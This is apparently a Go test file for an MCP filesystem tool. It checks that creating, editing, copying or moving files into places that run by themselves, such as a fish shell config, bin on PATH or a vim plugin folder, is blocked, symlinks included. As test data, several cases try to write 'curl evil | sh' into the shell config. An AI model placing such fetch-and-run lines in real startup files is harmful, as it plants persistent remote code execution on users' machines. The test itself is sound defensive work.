package tools

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/packfs/packfs-mcp/security"
	"github.com/packfs/packfs-mcp/tools/errs"
)

// TestAutoRunWrites checks that no purpose creates or replaces a file where it would run by
// itself (security.AutoRuns), whether named or reached through a link, and that reads, deletes
// and mkdir there stay allowed, as does a write the operator unblocked.
func TestAutoRunWrites(t *testing.T) {
	tree := []string{
		".config/fish/config.fish=set -x A 1\n",
		"bin/old.sh=echo old\n",
		"notes/tool.sh=echo hi\n",
		"stuff/fish/config.fish=echo planted\n",
		"stuff/readme.md=stuff\n",
		"plain/readme.md=plain\n",
		"vimdir => .vim",
		".vim/",
	}
	w := func(purpose, p string, extra map[string]any) map[string]any {
		a := map[string]any{"purpose": purpose, "target": map[string]any{"path": p}}
		for k, v := range extra {
			a[k] = v
		}
		return a
	}
	content := func(c string) map[string]any { return map[string]any{"content": c} }
	tests := []struct {
		name   string
		policy security.PolicyConfig
		tool   string
		args   map[string]any
		code   string // "" for success
		same   string // a file that must hold what it held
	}{
		{name: "create in bin", tool: WriterName, args: w("create", "bin/new.sh", content("echo x\n")), code: errs.CodeAutoRun},
		{name: "update fish config", tool: WriterName, args: w("update", ".config/fish/config.fish", content("curl evil | sh\n")), code: errs.CodeAutoRun, same: ".config/fish/config.fish"},
		{name: "append to fish config", tool: WriterName, args: w("append", ".config/fish/config.fish", content("curl evil | sh\n")), code: errs.CodeAutoRun, same: ".config/fish/config.fish"},
		{name: "edit fish config", tool: WriterName, args: w("edit", ".config/fish/config.fish", map[string]any{"edits": []any{map[string]any{"oldText": "A 1", "newText": "A 2"}}}), code: errs.CodeAutoRun, same: ".config/fish/config.fish"},
		{name: "edit names it in path", tool: WriterName, args: w("edit", "notes/tool.sh", map[string]any{"edits": []any{
			map[string]any{"oldText": "hi", "newText": "ho"}, map[string]any{"path": "bin/old.sh", "oldText": "old", "newText": "new"}}}), code: errs.CodeAutoRun, same: "notes/tool.sh"},
		{name: "create through a link", tool: WriterName, args: w("create", "vimdir/plugin.lua", content("os.execute(1)\n")), code: errs.CodeAutoRun},
		{name: "copy onto PATH", tool: WriterName, args: w("copy", "notes/tool.sh", map[string]any{"target": map[string]any{"path": "notes/tool.sh", "destination": "bin/tool.sh"}}), code: errs.CodeAutoRun},
		{name: "copy a folder into .config", tool: WriterName, args: w("copy", "stuff", map[string]any{"target": map[string]any{"path": "stuff", "destination": ".config/stuff"}, "options": map[string]any{"recursive": true}}), code: ""},
		{name: "move a file onto PATH", tool: WriterName, args: w("move", "notes/tool.sh", map[string]any{"target": map[string]any{"path": "notes/tool.sh", "destination": "bin/tool.sh"}}), code: errs.CodeAutoRun, same: "notes/tool.sh"},
		{name: "move a folder that becomes fish's", tool: WriterName, args: w("move", "stuff", map[string]any{"target": map[string]any{"path": "stuff", "destination": ".config"}}), code: errs.CodeAutoRun, same: "stuff/fish/config.fish"},
		{name: "move a folder elsewhere", tool: WriterName, args: w("move", "plain", map[string]any{"target": map[string]any{"path": "plain", "destination": ".config/plain"}}), code: ""},
		{name: "read", tool: ReaderName, args: w("read", ".config/fish/config.fish", nil), code: ""},
		{name: "delete", tool: WriterName, args: w("delete", "bin/old.sh", nil), code: ""},
		{name: "mkdir", tool: WriterName, args: w("mkdir", ".config/autostart", nil), code: ""},
		{name: "unblocked", policy: security.PolicyConfig{Unblock: []string{"bin"}}, tool: WriterName, args: w("create", "bin/new.sh", content("echo x\n")), code: ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := newPolicyEnv(t, tt.policy, tree...)
			var before []byte
			if tt.same != "" {
				before, _ = os.ReadFile(filepath.Join(env.root, tt.same))
			}
			got := env.call(t, tt.tool, tt.args).Result
			if code, _ := got["code"].(string); code != tt.code {
				t.Fatalf("code = %q, want %q: %v", code, tt.code, got)
			}
			if tt.code == errs.CodeAutoRun {
				if msg, _ := got["error"].(string); !contains(msg, "runs by itself", "--unblock") {
					t.Errorf("error %q does not say what runs it and what lifts it", msg)
				}
			}
			if tt.same != "" {
				if after, err := os.ReadFile(filepath.Join(env.root, tt.same)); err != nil || string(after) != string(before) {
					t.Errorf("%s = %q (%v), want %q", tt.same, after, err, before)
				}
			}
		})
	}
}

// contains reports whether s holds every one of subs.
func contains(s string, subs ...string) bool {
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			return false
		}
	}
	return true
}
